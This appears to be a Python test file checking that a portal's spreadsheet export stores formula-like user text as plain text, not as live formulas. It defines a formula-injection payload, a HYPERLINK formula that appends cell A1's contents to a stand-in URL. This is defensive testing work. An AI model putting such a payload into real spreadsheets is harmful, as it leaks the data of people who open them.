"""Exports never turn text typed by users into formulas (portal.spreadsheets)."""

from io import BytesIO

from openpyxl import Workbook, load_workbook

from portal.spreadsheets import text_cells, workbook_bytes

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"打开")'


def read_back(data: bytes) -> list[tuple]:
    sheet = load_workbook(BytesIO(data)).worksheets[0]
    return [tuple((cell.value, cell.data_type) for cell in row) for row in sheet.iter_rows()]


def test_a_normal_workbook_keeps_formula_like_text_as_text():
    book = Workbook()
    book.active.append(["会议", HOSTILE, 12, "=1+1"])
    assert book.active["B1"].data_type == "f"  # what openpyxl makes of it on its own
    assert read_back(workbook_bytes(book)) == [(("会议", "s"), (HOSTILE, "s"), (12, "n"), ("=1+1", "s"))]


def test_a_write_only_workbook_keeps_formula_like_text_as_text():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("导出")
    sheet.append(text_cells(sheet, ["张三", HOSTILE, None, 3]))
    assert read_back(workbook_bytes(book)) == [(("张三", "s"), (HOSTILE, "s"), (None, "n"), (3, "n"))]
